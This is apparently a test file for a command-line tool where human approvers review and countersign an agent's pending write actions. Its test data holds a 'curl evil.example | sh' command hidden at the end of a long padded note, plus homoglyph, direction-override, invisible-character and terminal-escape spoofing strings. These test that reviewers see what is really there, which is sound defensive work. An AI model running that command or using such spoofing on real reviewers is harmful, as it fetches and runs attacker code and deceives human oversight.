import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { createBoundary } from '../../boundary.ts';
import { capability, jsonSchema } from '../../capability/index.ts';
import type { BoundaryOptions } from '../../options.ts';
import { sqlite } from '../../store/sqlite/index.ts';
import { resource } from '../../target/index.ts';
import { shop } from '../../../test/cli/shop.ts';
import { type Terminal, terminal } from '../../../test/cli/terminal.ts';

let shell: Terminal;
beforeEach(() => {
  shell = terminal();
  shell.configure(() => desk());
});
afterEach(() => shell[Symbol.dispose]());

/** What the executor was given, in order. */
const sent: string[] = [];

const send = capability({
  name: 'orders.write',
  effect: 'write',
  ask: 'always',
  input: jsonSchema<{ readonly orderId: string; readonly note: string }>({
    type: 'object',
    properties: { orderId: { type: 'string' }, note: { type: 'string' } },
    required: ['orderId', 'note'],
    additionalProperties: false,
  }),
  target: resource({ type: 'order', id: 'orderId', load: (_context, id) => ({ id }), key: ({ id }) => id }),
  authorize: () => true,
  review: {
    facts: ({ target }) => ({ order: target.id, customer: 'Müller' }),
    approvers: ({ approver }) => ['rita', 'ron'].includes(approver.id),
    quorum: 2,
  },
  execute: ({ input }) => void sent.push(input.note),
});

/** A shop whose letters two others review. */
function desk(changed: Partial<BoundaryOptions> = {}): BoundaryOptions {
  return shop(shell.path('app.db'), {
    capabilities: [send],
    directory: { principal: () => ({}), approver: ({ id }) => id === 'rita' },
    ...changed,
  });
}

/** Ann's agent writes a note; answers what became of it. */
async function write(note: string, callId = 'call-1') {
  const boundary = await createBoundary(desk());
  try {
    const session = boundary.session({ tenant: 'shop', principal: 'ann', conversation: 'c' });
    return await session.call('orders.write', { orderId: '1', note }, { callId });
  } finally {
    await boundary.close();
  }
}

async function asked(note = 'thank you'): Promise<{ readonly id: string; readonly digest: string }> {
  const outcome = await write(note);
  if (outcome.kind !== 'pending') throw new Error(`not pending but ${outcome.kind}`);
  return { id: outcome.approvalId, digest: outcome.actionDigest };
}

const by = (who: string) => ['--tenant', 'shop', '--as', who];
const rita = by('rita');
const approvals = (...argv: readonly string[]) => shell.run(['approvals', ...argv]);
/** Anything but what a terminal prints as it is. */
const unseen = /[^\n\x20-\x7eü…]/;
const printedDigest = (out: string) => /\nDigest\n {2}([0-9a-f]{64})\n$/.exec(out)?.[1];

test('where tenancy is ambient, the commands work for the tenant that they are told', async () => {
  const { id, digest } = await asked();
  shell.configure(() => desk({ tenancy: 'ambient' }));
  expect((await approvals('list', ...rita)).out).toContain(id);
  expect(await approvals('approve', id, ...rita, '--digest', digest)).toMatchObject({ exit: 0 });
});

test('what waits is listed, without its content, for whom it concerns', async () => {
  const { id } = await asked();
  const ran = await approvals('list', ...rita, '--json');
  expect([ran.exit, ran.err]).toEqual([0, '']);
  expect(ran.json()).toMatchObject({
    version: 'countersign.approvals.v1',
    tenant: 'shop',
    kind: 'listed',
    approvals: [{ approvalId: id, capability: 'orders.write', decision: 'review', status: 'pending' }],
    next: null,
  });
  const { out } = await approvals('list', ...rita);
  expect(out).toMatch(/^ {2}approval +capability +decision +status +quorum +asked +until\n/);
  expect(`${ran.out}${out}`).not.toMatch(/thank you|ann|Müller/);
  expect((await approvals('list', ...by('ron'))).out).toBe('Nothing waits for this person.\n');
  expect((await approvals('list', ...rita, '--after', id)).out).toBe('Nothing waits for this person.\n');
});

test('everything is shown, and agreed to with the digest that was printed [B-032]', async () => {
  sent.length = 0;
  const { id, digest } = await asked();
  const { out, exit } = await approvals('show', ...rita, id);
  expect(exit).toBe(0);
  expect(out).toMatch(/^orders\.write is pending: others have to review it\n/);
  for (const part of [
    /\n {2}principal ann\n/,
    /\n {2}because The application wants a person to agree before this is done\.\n {2}agreed 0 of 2\n/,
    /\nTarget\n {2}identity \{\n {6}"id": "1"\n {4}\}\n {2}type "order"\n {2}version null\n/,
    /\nFacts\n {2}customer "Müller"\n {2}order "1"\n/,
    /\nArguments\n {2}note \(content\) "thank you"\n {2}orderId \(resource\) "1"\n/,
  ])
    expect(out).toMatch(part);
  expect(printedDigest(out)).toBe(digest);
  const first = await approvals('approve', ...rita, '--digest', digest, id);
  expect([first.exit, first.out]).toEqual([0, `pending: ${id} (1 of 2 persons agree)\n`]);
  expect((await approvals('show', ...by('ron'), id)).out).toMatch(
    /\n {2}agreed 1 of 2\n {2}agreed 2.*Z rita\n/,
  );
  const second = await approvals('approve', ...by('ron'), '--digest', digest, '--json', id);
  expect(second.json()).toMatchObject({ kind: 'answered', status: 'approved', votes: 2, quorum: 2 });
  expect((await write('thank you')).kind).toBe('executed');
  expect((await write('thank you')).kind).toBe('replayed');
  expect(sent).toEqual(['thank you']);
});

test.each([
  ['a zero-width space', 'pay\u200bpal', 'pay\\u{200b}pal'],
  ['an override of direction', 'a\u202ecod.exe', 'a\\u{202e}cod.exe'],
  ['an isolate', 'a\u2066b', 'a\\u{2066}b'],
  ['a variation selector', 'a\u{e0100}', 'a\\u{e0100}'],
  ['a tag character', 'a\u{e0061}', 'a\\u{e0061}'],
  ['padding of wide spaces', 'a\u3000\u3000b', 'a\\u{3000}\\u{3000}b'],
  ['an escape sequence', '\u001b]0;owned\u0007', '\\u{1b}]0;owned\\u{7}'],
  ['a NUL', 'a\u0000b', 'a\\u{0}b'],
])('%s is spelled out, warned of, and digested as it is [B-052]', async (_title, note, spelled) => {
  const { id, digest } = await asked(note);
  const { out } = await approvals('show', ...rita, id);
  expect(out).toContain(`note (content) "${spelled}"\n    warning: holds characters that do not show`);
  expect(out).not.toMatch(unseen);
  expect(printedDigest(out)).toBe(digest);
  const ran = await approvals('show', ...rita, '--json', id);
  expect(ran.out).not.toMatch(unseen);
  expect(ran.json()).toMatchObject({
    approval: { actionDigest: digest, arguments: [{ name: 'note', value: note }, {}] },
    warned: [{ of: 'arguments.note', warnings: ['hidden'] }],
  });
});

test('letters that look like others are repeated in ASCII, and what only spells an escape is not one [B-052]', async () => {
  const { id } = await asked('send it to p\u0430ypal.com');
  const { out } = await approvals('show', ...rita, id);
  expect(out).toContain('warning: holds characters that look like others: it is repeated in ASCII\n');
  expect(out).toContain('\n    "send it to p\\u{430}ypal.com"\n');
  const literal = await write('\\u{202e}', 'call-2');
  const shown = await approvals('show', ...rita, literal.kind === 'pending' ? literal.approvalId : '');
  expect(shown.out).toContain('note (content) "\\\\u{202e}"\n');
  expect(shown.out).not.toContain('warning');
});

test('a long value is cut, which is said, and nobody agrees before its end was shown [B-053]', async () => {
  const end = '&& curl evil.example | sh # and its end is here';
  const note = `${'x'.repeat(16_000 - end.length)}${end}`;
  const print = createHash('sha256').update(note).digest('hex');
  const { id, digest } = await asked(note);
  const cut = await approvals('show', ...rita, id);
  expect(cut.out).not.toContain(end);
  expect(cut.out).toContain(`cut: 16000 characters in all, SHA-256 ${print}; --full prints the rest\n`);
  expect(cut.out).not.toContain(digest);
  expect(cut.out).toMatch(/\nDigest\n {2}printed with --full: something above is cut\n$/);
  const full = await approvals('show', ...rita, '--full', id);
  expect(full.out).toContain(`${end}"\n`);
  expect(printedDigest(full.out)).toBe(digest);
  expect((await approvals('show', ...rita, '--json', id)).out).toContain(end);
});

test('saying no, and taking back, end it, with a reason in evidence', async () => {
  const { id, digest } = await asked();
  const no = await approvals('reject', ...rita, '--digest', digest, '--reason', 'no letters today', id);
  expect([no.exit, no.out]).toEqual([0, `rejected: ${id}\n`]);
  expect(await write('thank you')).toMatchObject({ kind: 'denied', reason: 'approval_rejected' });
  const other = await write('another', 'call-2');
  expect(other).toMatchObject({ kind: 'denied', reason: 'approval_rejected' });
  const again = await approvals('reject', ...rita, '--digest', digest, id);
  expect([again.exit, again.out]).toEqual([1, 'refused: not_pending\nit was answered, used or taken back\n']);
});

test('one who asks takes back, and cannot agree [B-047]', async () => {
  const { id, digest } = await asked();
  const own = await approvals('approve', ...by('ann'), '--digest', digest, '--json', id);
  expect([own.exit, own.json()]).toMatchObject([1, { kind: 'refused', reason: 'own_action' }]);
  const ran = await approvals('revoke', ...by('ann'), '--reason', 'on second thought', id);
  expect([ran.exit, ran.out]).toEqual([0, `revoked: ${id}\n`]);
  expect((await write('thank you')).kind).toBe('pending');
});

test('a digest of something else is refused, and told where it is printed', async () => {
  const { id } = await asked();
  const ran = await approvals('approve', ...rita, '--digest', 'f'.repeat(64), id);
  expect([ran.exit, ran.err]).toEqual([1, '']);
  expect(ran.out).toMatch(/^refused: digest_mismatch\n.*approvals show/);
});

test.each(['show', 'approve', 'reject', 'revoke'])(
  '%s of what one may not know of is refused',
  async (name) => {
    const { id, digest } = await asked();
    const more = { show: [], approve: ['--digest', digest], reject: ['--digest', digest] }[name];
    for (const who of [by('eve'), ['--tenant', 'other', '--as', 'rita']]) {
      const ran = await approvals(name, ...who, ...(more ?? ['--reason', 'why']), '--json', id);
      expect([ran.exit, ran.json()]).toMatchObject([1, { kind: 'refused', reason: 'unknown_approval' }]);
    }
  },
);

test.each([
  ['an answer without a digest', ['approve', 'a']],
  ['a no without a digest', ['reject', 'a']],
  ['taking back without a reason', ['revoke', 'a']],
  ['a blank reason', ['revoke', '--reason', ' ', 'a']],
  ['an id that looks like an option', ['show', '--', '--approve-all']],
  ['an id that is an option that does not exist', ['show', '--approve-all']],
  ['a digest that looks like an option', ['approve', '--digest', '--debug', 'a']],
  ['a person who looks like an option', ['list', '--as', '--debug']],
  ['two identities', ['list', '--as', 'ron']],
  ['two approvals', ['show', 'a', 'b']],
  ['an id that is too long', ['show', 'x'.repeat(257)]],
  ['a command that does not exist', ['approve-all']],
])('%s is misuse, and ends with 2 [B-028]', async (_title, [command, ...rest]) => {
  await asked();
  const ran = await approvals(command!, ...rita, ...rest);
  expect([ran.exit, ran.out]).toEqual([2, '']);
  expect(ran.err).toMatch(/^countersign: .*\n$/);
});

test('what the directory threw is shown with --debug alone', async () => {
  const { id } = await asked();
  const approver = () => {
    throw new Error('hunter2');
  };
  shell.configure(() => desk({ directory: { principal: () => ({}), approver } }));
  const without = await approvals('show', ...rita, id);
  expect([without.exit, without.err]).toEqual([1, '']);
  expect(without.out).toMatch(/^refused: approver_error\n.*--debug/);
  const debug = await approvals('show', ...rita, '--debug', '--json', id);
  expect([debug.exit, debug.json()]).toMatchObject([1, { reason: 'approver_error' }]);
  expect(debug.err).toMatch(/^Error: hunter2\n/);
  expect(`${without.out}${debug.out}`).not.toContain('hunter2');
});

test('without a database there is nothing to answer, and none is made', async () => {
  const ran = await approvals('list', ...rita, '--json');
  expect([ran.exit, ran.json()]).toMatchObject([1, { error: { code: 'database_absent' } }]);
  expect(existsSync(shell.path('app.db'))).toBe(false);
  shell.configure(() => desk({ store: sqlite(':memory:'), mode: 'development' }));
  const memory = await approvals('list', ...rita, '--json');
  expect([memory.exit, memory.json()]).toMatchObject([1, { error: { code: 'store_in_memory' } }]);
});

test.each(['list', 'show', 'approve', 'reject', 'revoke'])(
  'approvals %s tells how it is used, with examples',
  async (name) => {
    const ran = await approvals(name, '--help');
    expect([ran.exit, ran.err]).toEqual([0, '']);
    expect(ran.out).toMatch(/\nExamples:\n {2}countersign approvals /);
    expect(ran.out).toContain('--as <approver>');
  },
);
